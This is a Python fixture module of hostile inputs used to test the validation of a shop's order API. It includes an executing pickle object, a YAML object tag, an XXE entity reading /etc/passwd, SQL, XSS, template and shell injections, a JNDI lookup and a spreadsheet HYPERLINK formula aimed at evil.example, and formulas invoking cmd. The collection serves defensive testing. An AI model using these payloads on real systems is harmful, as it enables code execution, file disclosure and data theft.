"""What strangers may send, named: each case with the field that is at fault and a word of why.

``UNREADABLE`` are bodies that are no JSON of ours, ``WRONG`` are orders in good JSON with one
thing wrong, ``LEGAL`` are texts that look dangerous and are a customer's right: they are
stored as they are and come back the same.  Headers and addresses are in ``envelopes.py``.
"""

import json
import os
import pickle
import tempfile
from pathlib import Path
from typing import Any

#: Made by any payload that is executed; no test ends with it there.
EXECUTED = Path(tempfile.gettempdir()) / f"sas-hostile-{os.getpid()}"

ORDER: dict[str, Any] = {
    "customer": {"name": "Ada Lovelace", "email": "ada@example.org", "address": "1 Mill Lane"},
    "lines": [{"sku": "SKU-001", "quantity": 2}],
    "reference": "cart-1",
}


def order(**changes: Any) -> dict[str, Any]:
    """Return an order that is good but for what is said."""
    return ORDER | changes


def customer(**changes: Any) -> dict[str, Any]:
    return order(customer=ORDER["customer"] | changes)


def text(value: Any) -> bytes:
    return json.dumps(value).encode()


def with_quantity(literal: str) -> bytes:
    """Return an order whose quantity is written so, whether JSON has such a thing or not."""
    return text(ORDER).replace(b'"quantity": 2', f'"quantity": {literal}'.encode())


class _Executes:
    """Unpickled, it makes a folder."""

    def __reduce__(self) -> Any:
        return os.mkdir, (str(EXECUTED),)


EXECUTES = _Executes()
_MANY_NAMES = b"{" + b",".join(b'"%x":1' % n for n in range(100_000)) + b"}"
_YAML = f"!!python/object/apply:os.mkdir ['{EXECUTED}']".encode()

#: Bodies that no door reads, with a word of the reason.
UNREADABLE: dict[str, tuple[bytes, str]] = {
    "spaces": (b"   ", "no JSON"),
    "no JSON": (b"hello", "no JSON"),
    "truncated": (text(ORDER)[:60], "no JSON"),
    "two values": (text(ORDER) * 2, "no JSON"),
    "single quotes": (str(ORDER).encode(), "no JSON"),
    "a comment": (b"// an order\n" + text(ORDER), "no JSON"),
    "a comma too many": (text(ORDER)[:-1] + b",}", "no JSON"),
    "not UTF-8": (b'{"customer": "\xff\xfe"}', "UTF-8"),
    "latin-1": ('{"customer": "Zo\u00eb"}'.encode("latin-1"), "UTF-8"),
    "overlong UTF-8": (b'{"customer": "\xc0\x80"}', "UTF-8"),
    "raw surrogates": (b'{"customer": "\xed\xa0\x80"}', "UTF-8"),
    "UTF-16": (json.dumps(ORDER).encode("utf-16"), "UTF-8"),
    "UTF-32": (json.dumps(ORDER).encode("utf-32-be"), "no JSON"),
    "a byte order mark": (b"\xef\xbb\xbf" + text(ORDER), "no JSON"),
    "NaN": (with_quantity("NaN"), "NaN"),
    "Infinity": (with_quantity("Infinity"), "Infinity"),
    "-Infinity": (with_quantity("-Infinity"), "-Infinity"),
    "1e999": (with_quantity("1e999"), "larger"),
    "-1e999": (with_quantity("-1e999"), "larger"),
    "19 digits": (with_quantity("9" * 19), "got 19"),
    "5000 digits": (with_quantity("9" * 5000), "got 5000"),
    "a hexadecimal number": (with_quantity("0x10"), "no JSON"),
    "a leading zero": (with_quantity("02"), "no JSON"),
    "nested deeply": (b"[" * 30_000 + b"]" * 30_000, "nested"),
    "nested objects": (b'{"a":' * 8000 + b"1" + b"}" * 8000, "nested"),
    "nested a little too deep": (text(order(reference=json.loads("[" * 17 + "]" * 17))), "nested"),
    "a name twice": (b'{"lines": [], "lines": []}', "'lines' is given twice"),
    "an inner name twice": (with_quantity('1, "quantity": 2'), "'quantity' is given twice"),
    "NUL in a value": (text(order(reference="a\x00b")), "NUL"),
    "NUL in a name": (text(order(**{"a\x00b": 1})), "NUL"),
    "a raw NUL": (text(order(reference="aXb")).replace(b"X", b"\x00"), "no JSON"),
    "a raw line end": (text(order(reference="aXb")).replace(b"X", b"\n"), "no JSON"),
    "half a character": (text(order(reference="a\ud800b")), "a lone surrogate"),
    "the other half": (text(order(reference="a\udc00b")), "a lone surrogate"),
    "half a character in a name": (text(order(**{"\udfff": 1})), "a lone surrogate"),
    "__type__": (text(order(reference={"__type__": "datetime", "__value__": "x"})), "__type__"),
    "pickle": (pickle.dumps(EXECUTES), "UTF-8"),
    "pickle as text": (pickle.dumps(EXECUTES, protocol=0), "no JSON"),
    "yaml": (_YAML, "no JSON"),
    "xml": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "no JSON"),
    "a form": (b"customer=Ada&lines=SKU-001", "no JSON"),
    "gzip": (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "UTF-8"),
}

#: More than 64 KiB: refused before anything is read.
OVERSIZED: dict[str, bytes] = {
    "one byte too many": text(ORDER).ljust(65_537),
    "100,000 names": _MANY_NAMES,
    "1,001 lines and more": text(order(lines=[{"sku": "SKU-001", "quantity": 1}] * 5000)),
    "a name of 10 MB": text(customer(name="x" * 10_000_000)),
    "nested 100,000 times": b"[" * 100_000 + b"]" * 100_000,
    "zeros": bytes(1_000_000),
}


def _line(**changes: Any) -> dict[str, Any]:
    return order(lines=[{"sku": "SKU-001", "quantity": 1} | changes])


_NO_NUMBER = "integer"
#: Orders with one thing wrong: (the order, the field, a word of the reason).
WRONG: dict[str, tuple[Any, str, str]] = {
    "null": (None, "body", "object"),
    "a list": ([], "body", "object"),
    "a text": ("order", "body", "object"),
    "a number": (1, "body", "object"),
    "true": (True, "body", "object"),
    "empty": ({}, "customer", "required"),
    "a Celery message": ([[], {}, {"chord": None}], "body", "object"),
    # Names that other languages' libraries make something of.
    "__class__": (order(__class__="os.system"), "__class__", "not a known field"),
    "$type": (order(**{"$type": "System.Diagnostics.Process"}), "$type", "not a known field"),
    "@type": (order(**{"@type": "java.lang.Runtime"}), "@type", "not a known field"),
    "py/object": (order(**{"py/object": "os.system"}), "py/object", "not a known field"),
    "__proto__": (order(__proto__={"isAdmin": True}), "__proto__", "not a known field"),
    "constructor": (order(constructor={"prototype": {}}), "constructor", "not a known field"),
    "$where": (order(reference={"$where": "sleep(1)"}), "reference", "string"),
    # Nobody sets the price, the state or the owner of an order but the shop.
    "a total": (order(total="0.01"), "total", "not a known field"),
    "a state": (order(state="processed"), "state", "not a known field"),
    "a submitter": (order(submitter="client:other"), "submitter", "not a known field"),
    "a price": (_line(price="0.01"), "lines.0.price", "not a known field"),
    "a name of 1000 letters": (order(**{"x" * 1000: 1}), "x" * 200, "not a known field"),
    "no customer": ({"lines": ORDER["lines"]}, "customer", "required"),
    "customer null": (order(customer=None), "customer", "object"),
    "customer a list": (order(customer=[]), "customer", "object"),
    "name null": (customer(name=None), "customer.name", "string"),
    "name a number": (customer(name=7), "customer.name", "string"),
    "name a list": (customer(name=["Ada"]), "customer.name", "string"),
    "name an object": (customer(name={"first": "Ada"}), "customer.name", "string"),
    "name empty": (customer(name=""), "customer.name", "at least 1"),
    "name of spaces": (customer(name=" \u2003 "), "customer.name", "empty"),
    "name too long": (customer(name="x" * 121), "customer.name", "120"),
    "name of 60,000": (customer(name="x" * 60_000), "customer.name", "120"),
    "name of two lines": (customer(name="Ada\nBcc: all@example.org"), "customer.name", "control"),
    "name with CR": (customer(name="Ada\rSet-Cookie: a=b"), "customer.name", "control"),
    "name with an escape": (customer(name="\x1b[2J"), "customer.name", "control"),
    "name with C1": (customer(name="a\x85b"), "customer.name", "control"),
    "name with DEL": (customer(name="a\x7fb"), "customer.name", "control"),
    "address with a bell": (customer(address="a\x07b"), "customer.address", "control"),
    "address too long": (customer(address="x" * 501), "customer.address", "500"),
    "email null": (customer(email=None), "customer.email", "string"),
    "email none": (customer(email="nobody"), "customer.email", "e-mail"),
    "email of two": (customer(email="a@example.org,b@example.org"), "customer.email", "e-mail"),
    "email with a header": (customer(email="a@example.org\nBcc: b@c.d"), "customer.email", "contr"),
    "email quoted control": (customer(email='"\x01"@example.org'), "customer.email", "control"),
    "email too long": (customer(email="a" * 250 + "@b.org"), "customer.email", "254"),
    "email with a name": (customer(email="Ada <a@example.org>"), "customer.email", "e-mail"),
    "lines null": (order(lines=None), "lines", "list"),
    "lines an object": (order(lines={"0": {}}), "lines", "list"),
    "lines a text": (order(lines="SKU-001"), "lines", "list"),
    "no lines": (order(lines=[]), "lines", "at least 1"),
    "1,001 lines": (order(lines=[{"sku": "X", "quantity": 1}] * 1001), "lines", "at most 100"),
    "a line twice": (order(lines=ORDER["lines"] * 2), "lines.1.sku", "twice"),
    "line null": (order(lines=[None]), "lines.0", "object"),
    "sku null": (_line(sku=None), "lines.0.sku", "string"),
    "sku a number": (_line(sku=1), "lines.0.sku", "string"),
    "sku unknown": (_line(sku="NONE"), "lines.0.sku", "do not sell"),
    "sku of another case": (_line(sku="sku-001"), "lines.0.sku", "do not sell"),
    "sku a wildcard": (_line(sku="%"), "lines.0.sku", "do not sell"),
    "sku with SQL": (_line(sku="' OR '1'='1"), "lines.0.sku", "do not sell"),
    "sku a path": (_line(sku="../../etc/passwd"), "lines.0.sku", "do not sell"),
    "sku with a control": (_line(sku="SKU\x08-001"), "lines.0.sku", "control"),
    "sku too long": (_line(sku="S" * 41), "lines.0.sku", "40"),
    "quantity null": (_line(quantity=None), "lines.0.quantity", _NO_NUMBER),
    "quantity true": (_line(quantity=True), "lines.0.quantity", _NO_NUMBER),
    "quantity a text": (_line(quantity="2"), "lines.0.quantity", _NO_NUMBER),
    "quantity 1.5": (_line(quantity=1.5), "lines.0.quantity", _NO_NUMBER),
    "quantity a list": (_line(quantity=[1]), "lines.0.quantity", _NO_NUMBER),
    "quantity 0": (_line(quantity=0), "lines.0.quantity", "greater"),
    "quantity -0": (json.loads(with_quantity("-0")), "lines.0.quantity", "greater"),
    "quantity -1": (_line(quantity=-1), "lines.0.quantity", "greater"),
    "quantity a million and one": (_line(quantity=1_000_001), "lines.0.quantity", "less"),
    "quantity 2^31": (_line(quantity=2**31), "lines.0.quantity", "less"),
    "quantity of 18 digits": (_line(quantity=10**18 - 1), "lines.0.quantity", "less"),
    "quantity sold out": (_line(quantity=999_999), "lines.0.quantity", "are left"),
    "reference null": (order(reference=None), "reference", "string"),
    "reference too long": (order(reference="x" * 101), "reference", "100"),
    "reference with an escape": (order(reference="\x1b]0;x\x07"), "reference", "control"),
    "reference of two lines": (order(reference="a\nb"), "reference", "control"),
    "reply_to a list": (order(reply_to=[]), "reply_to", "string"),
    "callback_url a number": (order(callback_url=1), "callback_url", "string"),
    "callback_url too long": (order(callback_url="https://a.example/" + "x" * 500), "callback_url",
                              "500"),
}  # fmt: skip

#: Texts that somebody's name or address may be: stored, repeated and shown, never executed.
LEGAL: dict[str, str] = {
    "markup": "<script>alert(1)</script>",
    "an attribute": '"><img src=x onerror=alert(1)>',
    "an entity": "&lt;b&gt; &amp;amp; &#0;",
    "an SVG": "<svg/onload=alert(1)>",
    "a comment": "<!-- --!> <![CDATA[ ]]>",
    "a script's end": "</title></textarea></script><script>",
    "a template": "{{ 7*7 }}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "a format": "%s %(name)s %n {0} {0.__class__} {settings.SECRET_KEY}",
    "SQL": "'; DROP TABLE orders_order; --",
    "SQL's LIKE": "100% _ \\ [a-z]",
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with plus": '+HYPERLINK("https://evil.example","x")',
    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a path": "../../../../etc/passwd",
    "a Windows path": "..\\..\\boot.ini C:\\ NUL CON",
    "a shell": "$(touch /tmp/x) `id` ; id | id && id",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "an escape's look": "\\u0000 \\x00 %00 \\ud800",
    "right to left": "\u202egnp.exe \u2066x\u2069",
    "zero width": "A\u200bd\u200ca\ufeff\u2060",
    "a line of Unicode": "a\u2028b\u2029c",
    "letters of all kinds": "Zo\u00eb \u00dcnal \u674e \u05d0\u05d1 \u0627\u0628 \U0001f3ee",
    "marks on marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "not normal": "e\u0301 \ufb01 \uff1cscript\uff1e \u212b",
    "no characters": "\ufffe\uffff\U0010ffff",
    "a word for nothing": "null",
    "a number's look": "1e999",
}
#: Those that may be in a name or an address: what turns the direction of text is refused there.
NAMES = [name for name in LEGAL if name != "right to left"]
